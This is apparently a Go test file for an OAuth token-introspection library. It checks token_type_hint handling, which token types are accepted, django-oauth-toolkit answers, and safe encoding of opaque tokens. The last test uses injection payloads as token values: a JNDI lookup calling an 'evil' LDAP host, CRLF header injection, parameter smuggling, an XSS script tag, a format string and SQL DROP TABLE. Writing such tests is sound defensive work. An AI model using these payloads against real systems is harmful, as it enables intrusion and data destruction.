package introspect_test

import (
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"

	"github.com/warder-go/warder/introspect"
	"github.com/warder-go/warder/resource"
	"github.com/warder-go/warder/resource/resourcetest"
)

// TokenTypeHint is what the endpoint gets (RFC 7662 §2.1). Some endpoints report each access token
// as inactive if they get access_token.
func TestTokenTypeHint(t *testing.T) {
	for hint, want := range map[string][]string{"": {"access_token"}, "access_token": {"access_token"}, introspect.NoTokenTypeHint: nil, "bearer": {"bearer"}} {
		inBubble(t, func(_ *resource.Config, c *introspect.Config) { c.TokenTypeHint = hint }, func(fx *fixture) {
			token := fx.token(resourcetest.Token{})
			fx.expect("accepted token", token, 200, "")
			form := url.Values{"token": {token}}
			if want != nil {
				form["token_type_hint"] = want
			}
			if got := fx.issuer.Last(resourcetest.Introspection).Form; !reflect.DeepEqual(got, form) {
				fx.Errorf("hint %q: got %v", hint, got)
			}
		})
	}
	rejectsHint := func(req *http.Request) bool { return !req.PostForm.Has("token_type_hint") }
	for hint, status := range map[string]int{"": 503, introspect.NoTokenTypeHint: 200} {
		inBubble(t, func(_ *resource.Config, c *introspect.Config) {
			c.TokenTypeHint, c.Transport = hint, checkingTransport{c.Transport, rejectsHint}
		}, func(fx *fixture) {
			if got := fx.request(fx.token(resourcetest.Token{})); got.status != status {
				fx.Errorf("hint %q: got %d, want %d", hint, got.status, status)
			}
		})
	}
}

// The types of access tokens in answers are those of JWTs. Other types are accepted if the
// resource configures them, and those of other tokens never are.
func TestTypesOfTokensInAnswers(t *testing.T) {
	own := func(c *resource.Config, _ *introspect.Config) { c.Opaque.TokenTypes = []string{"api"} }
	for name, row := range map[string]struct {
		configure configFunc
		accepted  bool
	}{"the defaults": {nil, false}, "TokenTypes": {own, true}} {
		inBubble(t, row.configure, func(fx *fixture) {
			for _, member := range []string{"token_type", "token_use"} {
				for _, value := range []string{"access_token", "Access_Token", "bearer", "JWT", "at+jwt"} { // access_token: Salesforce
					fx.expect(name+", "+member+" "+value, fx.tokenWithClaim(member, `"`+value+`"`), 200, "")
				}
				for _, value := range []string{"refresh_token", "ID", "offline", "urn:ietf:params:oauth:token-type:id_token", "mac", "N_A"} {
					fx.expect(name+", "+member+" "+value, fx.tokenWithClaim(member, `"`+value+`"`), 401, resource.ReasonTokenType)
				}
				for _, value := range []string{"DPoP", "dpop"} { // RFC 9449 §6.2: such a token has cnf
					fx.expect(name+", "+member+" "+value, fx.tokenWithClaim(member, `"`+value+`"`), 401, resource.ReasonSenderConstrained)
				}
				want := 401
				if row.accepted {
					want = 200
				}
				if got := fx.request(fx.tokenWithClaim(member, `"API"`)); got.status != want {
					fx.Errorf("%s, %s api: got %d, want %d", name, member, got.status, want)
				}
			}
		})
	}
}

// django-oauth-toolkit answers with these members only. Such an answer is accepted if the operator
// has confirmed two things about the endpoint, and its user is the subject if the operator says so.
func TestAnswersOfDjangoOAuthToolkit(t *testing.T) {
	const answer = `{"active":true,"scope":"read","exp":9999999999,"client_id":"c","username":"alice"`
	for _, row := range []struct {
		name, subject     string
		audience, untyped bool
		members           string
		status            int
		reason            resource.Reason
		caller            string
	}{
		{"neither confirmed", "username", false, false, "", 401, resource.ReasonTokenType, ""},
		{"only the audience", "username", true, false, "", 401, resource.ReasonTokenType, ""},
		{"only the type", "username", false, true, "", 401, resource.ReasonAudience, ""},
		{"both", "username", true, true, "", 200, "", "25:https://auth.example.test sub:alice"},
		{"both, without the claim of the subject", "", true, true, "", 401, resource.ReasonClaimMissing, ""},
		{"both, a refresh token", "username", true, true, `,"token_type":"refresh_token"`, 401, resource.ReasonTokenType, ""},
		{"both, an ID token", "username", true, true, `,"token_use":"id"`, 401, resource.ReasonTokenType, ""},
		{"both, another audience", "username", true, true, `,"aud":"https://other.example.test"`, 401, resource.ReasonAudience, ""},
		{"both, an empty list of audiences", "username", true, true, `,"aud":[]`, 401, resource.ReasonAudience, ""},
		{"both, a bound token", "username", true, true, `,"cnf":{"jkt":"x"}`, 401, resource.ReasonSenderConstrained, ""},
	} {
		configure := func(c *resource.Config, i *introspect.Config) {
			c.Opaque.SubjectClaim, c.Opaque.TrustAnswersWithoutAudience = row.subject, row.audience
			i.TrustAnswersWithoutTokenType = row.untyped
		}
		inBubble(t, configure, func(fx *fixture) {
			fx.endpointAnswers(strings.Replace(answer, "9999999999", "1000000000", 1) + row.members + "}") // soon in the bubble
			if got := fx.expect(row.name, fx.token(resourcetest.Token{}), row.status, row.reason); got.caller != row.caller {
				fx.Errorf("%s: got caller %q, want %q", row.name, got.caller, row.caller)
			}
		})
	}
	// A JWT that is verified by introspection needs its own aud all the same if it has one.
	inBubble(t, func(c *resource.Config, i *introspect.Config) {
		c.Opaque.TrustAnswersWithoutAudience, i.TrustAnswersWithoutTokenType = true, true
	}, func(fx *fixture) {
		fx.endpointAnswers(`{"active":true,"sub":"alice"}`)
		fx.expect("a JWT for another resource", fx.issuer.Token(resourcetest.Token{Audience: "https://other.example.test"}), 401, resource.ReasonAudience)
		fx.expect("a JWT without aud", fx.issuer.Token(resourcetest.Token{Claims: map[string]any{"aud": resourcetest.Remove}}), 200, "")
	})
}

// Tokens that are not b64tokens (RFC 6750 §2.1) are introspected. They are in the form of the
// request, form-encoded, and nowhere else.
func TestOpaqueTokensOfOtherGrammars(t *testing.T) {
	inBubble(t, nil, func(fx *fixture) {
		for name, token := range map[string]string{
			"Salesforce":          "00DE0000000dhHq!AQcAQPq.zT5_kJ4nQ",
			"Laravel Sanctum":     "17|fQ2h0xVmUeYl9c3kz0aR",
			"YouTrack":            "perm:cm9vdA==.NDUtMQ==.rP3uVnZk1",
			"another parameter":   "x&client_id=evil&token=y",
			"percent-encoding":    "a%26token%3Db%0d%0aX-Evil:%201",
			"a plus sign":         "a+b%20c",
			"a semicolon":         "a;token=b",
			"a fragment, a query": "a#b?c=d/../e",
			"an expression":       "${jndi:ldap://evil.example.test/x}",
			"HTML":                "<script>alert(1)</script>",
			"a format":            "%s%n%d{{.}}",
			"SQL":                 "'--;DROP/**/TABLE",
		} {
			fx.issuer.OpaqueToken(resourcetest.Token{Text: token, Subject: "bob"})
			if got := fx.expect(name, token, 200, ""); !strings.HasSuffix(got.caller, " sub:bob") {
				fx.Errorf("%s: got caller %q", name, got.caller)
			}
			got := fx.issuer.Last(resourcetest.Introspection)
			if want := (url.Values{"token": {token}, "token_type_hint": {"access_token"}}); !reflect.DeepEqual(got.Form, want) || got.URI != "/introspect" {
				fx.Errorf("%s: got %s %q", name, got.URI, got.Form)
			}
			for field, values := range got.Header {
				if strings.Contains(strings.Join(values, " "), token) {
					fx.Errorf("%s: the token is in the header field %s", name, field)
				}
			}
			unknown := token + "~unknown"
			fx.expect(name+", unknown", unknown, 401, resource.ReasonInactive)
			if written := fx.log.String() + fx.metrics(); strings.Contains(written, token) {
				fx.Errorf("%s: the token was written: %s", name, written)
			}
		}
	})
}
